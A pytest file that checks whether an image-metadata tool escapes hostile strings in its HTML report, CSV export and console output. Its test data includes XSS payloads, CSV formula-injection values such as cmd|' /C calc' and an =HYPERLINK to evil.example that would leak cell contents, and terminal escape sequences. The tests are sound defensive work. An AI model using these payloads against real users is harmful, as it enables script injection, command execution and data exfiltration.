"""Output safety: what comes out of the database is text, never markup or formulas.

Images whose prompts, models, samplers, VAEs, file and folder names carry HTML/JavaScript
and spreadsheet formulas are indexed with the real DB_filler.py; then the real
parameter_statistic.py writes the HTML report (every such string appears escaped, as text:
the page holds only the tags the report itself writes) and parameter_statistic_DB.py
exports CSV (every text cell a spreadsheet would evaluate is neutralised with a leading ').
"""
from __future__ import annotations

import csv
import html
from html.parser import HTMLParser
from pathlib import Path

import pytest

from exifdata_analytics.samples import a1111_infotext, write_jpeg, write_png
from tests.conftest import PROJECT_DIR
from tests.robust_support import db_rows, run_measured, summary_count, write_config

SCRIPT_PROMPT = 'a cat <script>alert("prompt")</script>, <img src=x onerror=alert(1)>, red'
HOSTILE = {
    "prompt": SCRIPT_PROMPT,
    "negative": "</td></tr></table><iframe src=javascript:alert(2)>",
    "model": '"><script>alert(\'model\')</script>',
    "sampler": "Euler <svg onload=alert(3)>",
    "vae": "<b onmouseover=alert(4)>vae</b>",
}
FORMULAS = {
    "prompt": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "negative": "+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sampler": "-2+3+cmd|' /C calc'!A0",
    "vae": "\t=1+1",
}
# terminal control sequences: retitle the window, clear the screen, recolour
ESCAPES = {"prompt": "a cat \x1b]0;PWNED\x07 \x1b[2J\x1b[31mred", "negative": "\x9b31m", "model": "\x1b[5mblink",
           "sampler": "Euler\x08\x08\x08\x08\x08DPM", "vae": "\x7f"}
# the elements report.html is made of; anything else would be injected
REPORT_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "nav", "a", "main",
               "section", "div", "table", "thead", "tbody", "tr", "th", "td", "img", "code", "br", "span", "ul",
               "li", "strong", "em", "small", "i", "button"}


def without_our_scripts(page: str) -> str:
    """The page without the two script elements report.html is made with: its own script (exactly
    the package's report.js) and the thumbnails' JSON (digits and base64 only, nothing else can be
    in it); any other script would be injected."""
    import re

    from exifdata_analytics.reports.html_parts import page_script

    assert page.count(page_script()) == 1
    rest = page.replace(page_script(), "")
    return re.sub(r'<script type="application/json" id="thumbs">\{[0-9A-Za-z":;,+/=. ]*\}</script>', "", rest, count=1)


def _infotext(values: dict, i: int) -> str:
    return a1111_infotext(values["prompt"], values["negative"],
                          {"Steps": 20 + i, "Sampler": values["sampler"], "CFG scale": 7, "Seed": i,
                           "Model": values["model"], "VAE": values["vae"]})


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> tuple[Path, Path, Path]:
    tmp_path = tmp_path_factory.mktemp("hostile_output")
    root = tmp_path / "<script>alert('folder')<\\script> =1+1"
    root.mkdir()
    for i in range(3):
        write_png(root / f"<img src=x onerror=alert({i})>.png", {"parameters": _infotext(HOSTILE, i)}, seed=i)
    for i in range(3):
        write_png(root / f"=1+{i}.png", {"parameters": _infotext(FORMULAS, i)}, seed=10 + i)
    write_jpeg(root / "@formula.jpg", user_comment=_infotext(FORMULAS, 9), seed=20)
    write_png(root / "escape.png", {"parameters": _infotext(ESCAPES, 30)}, seed=30)
    dbdir = tmp_path / "<b onclick=alert(5)>db"
    dbdir.mkdir()
    db = dbdir / "out.db"
    config = write_config(tmp_path)
    run = run_measured("DB_filler.py", str(root), "-y", "--db", str(db), "--config", str(config), "--no-progress",
                       tmp_path=tmp_path)
    assert run.returncode == 0, run.stderr
    assert summary_count(run.stdout, "with generation data") == 8
    stored = db_rows(db, "SELECT prompt, model, sampler FROM images WHERE prompt = ?", (SCRIPT_PROMPT,))
    assert len(stored) == 3 and stored[0]["model"] == HOSTILE["model"] and stored[0]["sampler"] == HOSTILE["sampler"]
    return root, db, config


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.handlers: list[tuple[str, str]] = []
        self.text: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.handlers += [(tag, k) for k, _ in attrs if k.lower().startswith("on")]
        self.handlers += [(tag, v) for k, v in attrs if v and v.lower().lstrip().startswith("javascript:")]
        self.in_style = tag == "style"

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if not self.in_style:
            self.text.append(data)


def test_html_report_shows_every_hostile_string_as_text(hostile_db, tmp_path):
    if not (PROJECT_DIR / "parameter_statistic.py").exists():
        pytest.skip("parameter_statistic.py is not there yet")
    root, db, config = hostile_db
    out = tmp_path / "report"
    run = run_measured("parameter_statistic.py", "-y", "--html", "--no-plots", "--db", str(db), "--out", str(out),
                       "--keywords", "<script>, cat, <svg onload=alert(9)>", "--folder", str(root),
                       # as written: a canonical name drops what looks like folders ('</script>')
                       "--raw-names", "--config", str(config), tmp_path=tmp_path)
    assert run.returncode == 0, run.stderr
    page = (out / "report.html").read_text("utf-8")
    ours = without_our_scripts(page)
    parser = _Elements()
    parser.feed(ours)
    parser.close()
    assert parser.tags <= REPORT_TAGS, parser.tags - REPORT_TAGS
    assert parser.handlers == []
    assert "<script" not in ours.lower() and "<svg" not in ours.lower() and "<iframe" not in ours.lower()
    text = "".join(parser.text)
    # the strings are there, readable, as text
    for shown in (HOSTILE["model"], HOSTILE["sampler"], HOSTILE["vae"], "<svg onload=alert(9)>", str(db)):
        assert shown in text, shown
        assert html.escape(shown, quote=True) in page or html.escape(shown, quote=False) in page
    assert "<script>alert" in text  # the prompt's tags (brackets dropped: 'a cat <script>alert "prompt" </script>')
    assert "alert('folder')" in text  # the --folder filter as described in the report


def test_csv_export_neutralises_every_formula_cell(hostile_db, tmp_path):
    root, db, config = hostile_db
    out = tmp_path / "export.csv"
    run = run_measured("parameter_statistic_DB.py", "export", str(out), "--db", str(db), "--config", str(config),
                       tmp_path=tmp_path)
    assert run.returncode == 0, run.stderr
    with open(out, encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    header, rows = table[0], table[1:]
    assert len(rows) == 8
    for row in rows:
        for name, cell in zip(header, row):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only numbers may start like a formula (a negative seed, say)
    cells = {(name, cell) for row in rows for name, cell in zip(header, row)}
    for column, value in (("prompt", FORMULAS["prompt"]), ("negative_prompt", FORMULAS["negative"]),
                          ("model", FORMULAS["model"]), ("sampler", FORMULAS["sampler"]),
                          ("file_name", "=1+0.png"), ("file_name", "@formula.jpg")):
        assert (column, "'" + value) in cells, (column, value)
    # the HTML-bearing strings are left alone in CSV (they are not formulas)
    assert ("prompt", SCRIPT_PROMPT) in cells


def test_console_tables_show_control_characters_instead_of_sending_them(hostile_db, tmp_path):
    root, db, config = hostile_db
    for args, shown in ((("search", "cat", "--all"), "␛]0;PWNED␇ ␛[2J␛[31mred"), (("stats",), "␛[5mblink")):
        run = run_measured("parameter_statistic_DB.py", *args, "--db", str(db), "--config", str(config),
                           tmp_path=tmp_path)
        assert run.returncode == 0, run.stderr
        assert not any(ch in run.stdout for ch in "\x1b\x07\x08\x7f\x9b"), args
        assert shown in run.stdout, run.stdout
